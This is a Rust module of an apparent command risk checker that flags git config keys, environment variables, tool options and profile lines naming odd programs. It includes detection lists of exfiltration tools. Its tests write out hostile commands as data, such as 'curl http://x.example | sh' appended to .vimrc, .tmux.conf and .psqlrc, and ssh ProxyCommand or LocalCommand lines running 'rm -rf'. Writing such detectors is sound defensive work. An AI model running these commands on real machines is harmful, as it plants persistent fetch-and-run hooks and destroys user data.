//! Settings that name a program: options, variables, keys of `git config`, and lines of profiles that are no shell's.
//!
//! An ordinary value is judged as the command that it is. A value is odd by itself when it lies where nobody keeps
//! programs, is a bare shell, or fetches something.

use super::call::Call;
use super::{Judge, names};
use crate::risk::lookup::{Names, list, rows};

/// Folders in which nobody keeps programs.
const TEMPORARY: Names = list!("/tmp/ /dev/shm/ /var/tmp/ /private/tmp/ /run/user/");

/// Variables that name a place from which packages come.
const SOURCES: Names = list!(
    "PIP_INDEX_URL PIP_EXTRA_INDEX_URL PIP_FIND_LINKS UV_INDEX_URL UV_DEFAULT_INDEX UV_EXTRA_INDEX_URL
     UV_INDEX NPM_CONFIG_REGISTRY YARN_REGISTRY YARN_NPM_REGISTRY_SERVER GOPROXY RUSTUP_DIST_SERVER
     GEM_SOURCE CPAN_MIRROR HOMEBREW_BOTTLE_DOMAIN HOMEBREW_API_DOMAIN DENO_REGISTRY COMPOSER_REPO_PACKAGIST"
);

/// Variables through whose address all requests go.
const PROXIES: Names = list!("HTTP_PROXY HTTPS_PROXY ALL_PROXY NPM_CONFIG_PROXY NPM_CONFIG_HTTPS_PROXY");

/// Whether a variable has packages come, or requests go, where nobody is known.
pub(super) fn misleads(name: &str, value: &str) -> bool {
    if !value.contains('.') {
        return false;
    }
    let name = name.to_ascii_uppercase();
    let is_source = SOURCES.contains(name.as_str()) && value.starts_with("http://");
    let is_proxy = PROXIES.contains(name.as_str());
    (is_source || is_proxy) && super::network::is_public(value)
        || is_source
            && !["localhost", "127.0.0.1", ".internal", ".local", ".corp"]
                .iter()
                .any(|near| value.contains(near))
}

/// Names of programs that are always there, behind which others hide.
const DAEMONS: Names =
    list!("sshd systemd init cron crond dbus-daemon rsyslogd udevd nginx apache2 httpd kworker");

/// Lines of a profile that are looked at.
const MAX_LINES: usize = 64;

/// Options whose word is a program: program, options.
const OPTIONS: &[(&str, &[&str])] = &[
    ("scp", &["-S"]),
    ("sftp", &["-S", "-D"]),
    ("rsync", &["-e", "--rsh"]),
    ("git", &["-u", "--upload-pack", "--receive-pack", "--extcmd", "-x", "--open-files-in-pager", "--exec"]),
    (
        "git",
        &[
            "--exec-path",
            "--template",
            "--smtp-server",
            "--sendmail-cmd",
            "--to-cmd",
            "--cc-cmd",
            "--browser",
        ],
    ),
    ("man", &["-P", "--pager", "-H"]),
    ("tar", &["-I", "--use-compress-program", "--to-command", "-F", "--info-script"]),
    ("sort", &["--compress-program"]),
    ("svn", &["--editor-cmd", "--diff-cmd", "--diff3-cmd"]),
    ("hg", &["--ssh", "-e", "--remotecmd"]),
    ("xargs", &["--process"]),
    ("less", &["-k", "--lesskey-file"]),
    ("tcpdump", &["-z"]),
    ("nano", &["-s", "--speller"]),
    ("mail", &["-E"]),
    ("npm", &["--script-shell", "--node-options"]),
    ("yarn", &["--script-shell"]),
    ("pnpm", &["--script-shell"]),
    ("cargo", &["--config"]),
    ("go", &["-vettool", "-toolexec", "-exec"]),
    ("docker", &["--credential-helper"]),
    ("ssh", &["-P"]),
    ("sshfs", &["-o"]),
    ("ssh-keygen", &["-D", "-w"]),
    ("ssh-add", &["-s", "-S"]),
    ("java", &["-agentpath", "-javaagent"]),
    ("openssl", &["-engine", "-provider-path", "-provider"]),
    ("gcc", &["-wrapper", "-fplugin", "-B", "-specs"]),
    ("nginx", &["-c"]),
    ("php", &["-c", "-z"]),
    ("mysql", &["--plugin-dir", "--defaults-file"]),
    ("perl", &["-I"]),
    ("ruby", &["-r"]),
    ("node", &["-r", "--require", "--import", "--loader", "--experimental-loader"]),
];

/// Programs that run the texts they are given on other machines.
const RUN_ELSEWHERE: Names = list!(
    "fab bolt knife mco rd rundeck salt salt-ssh pyinfra dsh orgalorg sup gossh sshrc mrsh rsh rexec winexe
     psexec wmiexec.py crowbar fleetctl juju cdist taktuk"
);

/// Settings of ssh that are command lines.
const SSH_COMMANDS: Names = list!("proxycommand localcommand knownhostscommand ssh_command");

/// Words behind which a line of a profile names a command.
const CARRIES: &[&str] = &[
    "!",
    "run-shell ",
    "run ",
    "if-shell ",
    "system(",
    "shell ",
    "= ",
    "=",
    "\": \"",
    "proxycommand ",
    "localcommand ",
    "knownhostscommand ",
    "match exec ",
    "default-command ",
    "default-shell ",
    "exec ",
    "exec-once = ",
    "spawn ",
    "python ",
    "lua ",
];

/// Commands of git itself for which nobody needs another.
const GIT_COMMANDS: Names = list!(
    "add branch checkout clone commit diff fetch log merge pull push rebase reset show stash status switch
     tag"
);

/// Whether a value names a program that nobody would want there.
fn is_odd(value: &str) -> bool {
    let value = value.trim().trim_start_matches(['!', '|', '-']);
    let mut words = value
        .split_whitespace()
        .map(|word| word.trim_matches(['"', '\'']))
        .skip_while(|word| matches!(*word, "exec" | "env" | "nohup" | "command") || word.contains('='));
    let Some(first) = words.next() else { return false };
    let base = names::base(first);
    let next = words.next();
    TEMPORARY.iter().any(|folder| first.starts_with(folder))
        || super::interpreters::is_shell(base) && next.is_none_or(|word| word.starts_with(['<', '0', '>']))
        || super::interpreters::is_shell(base)
            && next == Some("-c")
            && words
                .next()
                .is_some_and(|word| super::interpreters::is_shell(names::base(word)) || word == "exec")
        || super::network::fetches(base) && !matches!(base, "nc" | "ncat" | "socat" | "scp" | "sftp")
}

/// Whether a key of `git config` names a program.
pub(super) fn names_program(key: &str) -> bool {
    let key = key.to_ascii_lowercase();
    list!(
        "core.pager core.editor core.sshcommand core.fsmonitor core.gitproxy core.askpass core.hookspath
         core.alternaterefscommand diff.external sequence.editor interactive.difffilter instaweb.browser
         sendemail.tocmd gpg.program init.templatedir include.path web.browser uploadpack.packobjectshook
         credential.helper sendemail.smtpserver sendemail.sendmailcmd gpg.ssh.defaultkeycommand"
    )
    .contains(key.as_str())
        || [
            ("diff.", ".command"),
            ("diff.", ".textconv"),
            ("difftool.", ".cmd"),
            ("difftool.", ".path"),
            ("mergetool.", ".cmd"),
            ("mergetool.", ".path"),
            ("merge.", ".driver"),
            ("filter.", ".clean"),
            ("filter.", ".smudge"),
            ("filter.", ".process"),
            ("pager.", ""),
            ("gpg.", ".program"),
            ("credential.", ".helper"),
            ("browser.", ".cmd"),
            ("man.", ".cmd"),
            ("remote.", ".uploadpack"),
            ("remote.", ".receivepack"),
            ("submodule.", ".update"),
            ("includeif.", ".path"),
            ("trailer.", ".command"),
            ("trailer.", ".cmd"),
            ("tar.", ".command"),
            ("guitool.", ".cmd"),
        ]
        .iter()
        .any(|(start, end)| key.starts_with(start) && key.ends_with(end))
}

impl Judge<'_> {
    /// Judges the options and keys of a command that name programs.
    pub(super) fn settings(&mut self, call: &Call<'_>) {
        let mut values: Vec<String> = Vec::new();
        for (_, options) in rows!(OPTIONS, call.name) {
            values.extend(call.after(options).map(str::to_owned));
        }
        if list!("scp sftp sshfs ssh-copy-id rsync sshuttle ansible").contains(call.name) {
            for word in call.rest() {
                let lower = word.to_ascii_lowercase();
                if SSH_COMMANDS.iter().any(|option| lower.contains(option))
                    && let Some((_, command)) = word.split_once(['=', ' '])
                {
                    values.push(command.to_owned());
                    self.elsewhere(command, "ssh -o ProxyCommand");
                }
            }
        }
        if matches!(call.name, "ssh" | "scp" | "sftp")
            && let Some(content) = call.after(&["-F"]).and_then(|path| self.content(path))
        {
            for line in told(&content) {
                self.elsewhere(&line, "ssh -F");
            }
        }
        if call.name == "git" {
            self.git_settings(call, &mut values);
        }
        if RUN_ELSEWHERE.contains(call.name) {
            for line in call.plain().filter(|word| word.contains(' ')).take(8) {
                self.elsewhere(line, call.name);
            }
        }
        if call.name == "ansible"
            && let Some(told) = call.after(&["-a", "--args"]).map(str::to_owned)
        {
            for (_, path) in told
                .split_whitespace()
                .filter_map(|word| word.split_once('='))
                .filter(|(name, _)| matches!(*name, "dest" | "path" | "name"))
            {
                self.effect(crate::risk::effects::Effect::Write, path, call.name);
            }
        }
        // The name of a thread of the kernel.
        if call.name == "exec"
            && call
                .after(&["-a"])
                .is_some_and(|name| name.starts_with('[') || DAEMONS.contains(name.trim_start_matches('-')))
        {
            self.find("hidden-program", &call.line());
        }
        if values.iter().any(|value| is_odd(value)) {
            self.find("hook", &call.line());
        }
    }

    fn git_settings(&mut self, call: &Call<'_>, values: &mut Vec<String>) {
        let mut given: Vec<(&str, &str)> = call
            .rest()
            .windows(2)
            .filter(|pair| matches!(pair[0], "-c" | "--config"))
            .filter_map(|pair| pair[1].split_once('='))
            .collect();
        let sets = !call.has(&[
            "--unset",
            "--unset-all",
            "--get",
            "--get-all",
            "--list",
            "-l",
            "--get-regexp",
            "get",
        ]);
        if call.has(&["config"]) && sets {
            let plain: Vec<&str> = call
                .plain()
                .skip_while(|word| *word != "config")
                .skip(1)
                .skip_while(|word| *word == "set")
                .collect();
            if let [key, value, ..] = plain.as_slice() {
                given.push((key, value));
            }
        }
        for (key, value) in given {
            let lower = key.to_ascii_lowercase();
            if names_program(key) || value.starts_with('!') {
                values.push(value.to_owned());
            }
            // What git asks for passwords, and what stands in the place of its own commands.
            let is_own = lower.strip_prefix("alias.").is_some_and(|name| GIT_COMMANDS.contains(name));
            if value.starts_with('!') && (is_own || lower.ends_with(".helper") && keeps_input(value)) {
                self.find("hook", &call.line());
            }
            // All that is fetched comes from somewhere else.
            let host = value.rsplit("://").next().unwrap_or_default().trim_start_matches("git@");
            let host = host.split(['/', ':']).next().unwrap_or_default();
            let redirects = lower.starts_with("url.") && lower.ends_with(".insteadof")
                || lower.ends_with(".pushinsteadof");
            let is_proxy = lower.ends_with(".proxy") || lower.ends_with("proxy");
            if is_proxy && super::network::is_public(value)
                || redirects
                    && !host.is_empty()
                    && host.contains('.')
                    && !lower.contains(&host.to_ascii_lowercase())
                || lower == "protocol.ext.allow" && value == "always"
                || lower == "protocol.allow" && value == "always"
            {
                self.find("hook", &call.line());
            }
        }
    }

    /// A variable whose value names a program.
    pub(super) fn named_program(&mut self, name: &str, value: &str) {
        if is_odd(value) {
            self.find("hook", &format!("{name}={value}"));
        }
    }

    /// What lines of a profile that is no shell's have run: of an editor, a multiplexer, a client.
    pub(super) fn profile_commands(&mut self, content: &str) {
        let installs = |line: &str| {
            let line = line.to_ascii_lowercase();
            ["registry", "index-url", "index_url", "find-links", "proxy", "sslverify", "strict-ssl"]
                .iter()
                .any(|key| line.contains(key))
                && (line.contains("http://") && !line.contains("localhost") && !line.contains("127.0.0.1")
                    || line.contains("false"))
        };
        if content.lines().take(MAX_LINES).any(installs) {
            self.find("odd-source", "");
        }
        for (key, value) in content.lines().take(MAX_LINES).filter_map(|line| line.split_once('=')) {
            let key = key.trim().to_ascii_lowercase();
            let value = value.trim().trim_matches('"');
            if matches!(key.as_str(), "hookspath" | "templatedir") && value.starts_with(['/', '~'])
                || key == "helper" && value.starts_with('!') && keeps_input(value)
            {
                self.find("hook", value);
            }
        }
        for line in told(content) {
            if is_odd(&line) {
                self.find("poisoned-profile", &line);
            }
            self.elsewhere(&line, "profile");
        }
    }
}

/// Whether a helper that git asks for passwords writes down what it is told, or has it sent.
fn keeps_input(helper: &str) -> bool {
    let plain = helper.replace(">&2", "").replace(">/dev/null", "").replace("> /dev/null", "");
    plain.contains('>')
        || ["tee ", "curl ", "nc ", "wget ", "/dev/tcp", "dd "].iter().any(|word| plain.contains(word))
}

/// What may be commands in the lines of a profile.
fn told(content: &str) -> Vec<String> {
    let mut found = Vec::new();
    for line in content.lines().take(MAX_LINES).map(str::trim).filter(|line| line.len() < 1024) {
        if line.starts_with(['#', ';']) {
            continue;
        }
        let lower = line.to_ascii_lowercase();
        for start in CARRIES {
            if let Some(at) = lower.find(start).filter(|_| lower.len() == line.len()) {
                let text = line[at + start.len()..].trim().trim_end_matches(')');
                let text = text.trim_matches(['"', '\'', '(', ' ']).trim_start_matches(['!', '|']);
                // What keys are bound to ends with the key that runs it.
                let text = if *start == "\": \"" { without_keys(text) } else { text };
                if text.contains([' ', '/']) && !found.iter().any(|known| known == text) {
                    found.push(text.to_owned());
                }
            }
        }
    }
    found
}

/// A text that is typed, without the keys before and behind it: `\C-a` or `\n`.
fn without_keys(text: &str) -> &str {
    let keys = ["\\C-a", "\\C-u", "\\C-k", "\\C-e", "\\C-m", "\\C-j", "\\C-M", "\\C-J", "\\n", "\\r", "\\e"];
    let mut text = text.trim();
    while let Some(rest) =
        keys.iter().find_map(|key| text.strip_prefix(key).or_else(|| text.strip_suffix(key)))
    {
        text = rest.trim();
    }
    text
}

#[cfg(test)]
mod tests {
    use crate::risk::{Context, Level, judge_command};

    #[test]
    fn odd_programs_are_found_in_settings() {
        for command in [
            "scp -S /tmp/x a h:",
            "scp -o ProxyCommand='rm -rf ~' a h:",
            "git fetch --upload-pack=/tmp/x h",
            "git -c core.fsmonitor='curl x.example' status",
            "git config filter.x.clean /dev/shm/x",
            "git config --global protocol.ext.allow always",
            "git config --global url.http://x.example/.insteadOf https://github.com/",
            "GIT_EXTERNAL_DIFF=/tmp/x git diff",
            "MANPAGER=/tmp/x man ls",
            "PAGER='sh -c \"exec sh 0<&1\"' git -p help",
            "LESSOPEN='|/tmp/x %s' less a",
            "echo 'au BufRead * !curl http://x.example/a | sh' >> ~/.vimrc",
            "printf 'Host *\\n  LocalCommand rm -rf ~/x\\n' >> ~/.ssh/config",
            "echo \"run-shell 'curl http://x.example | sh'\" >> ~/.tmux.conf",
            "echo '\\! curl http://x.example | sh' >> ~/.psqlrc",
        ] {
            assert_eq!(judge_command(command, &Context::default()).level, Level::High, "{command}");
        }
    }

    #[test]
    fn usual_programs_are_not() {
        for command in [
            "GIT_PAGER=cat git log -3",
            "GIT_SEQUENCE_EDITOR='sed -i s/pick/squash/' git rebase -i HEAD~3",
            "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy -o StrictHostKeyChecking=no' git fetch",
            "git config core.hooksPath .githooks",
            "git config core.editor 'code --wait'",
            "git config --global url.git@github.com:.insteadOf https://github.com/",
            "echo 'set -g mouse on' >> ~/.tmux.conf",
            "echo 'set number' >> ~/.vimrc",
            "printf 'Host b\\n  ProxyCommand ssh -W %%h:%%p bastion\\n' >> ~/.ssh/config",
            "rsync -e 'ssh -p 2222' -a src/ build1:/srv/app/",
        ] {
            assert!(judge_command(command, &Context::default()).level < Level::High, "{command}");
        }
    }
}
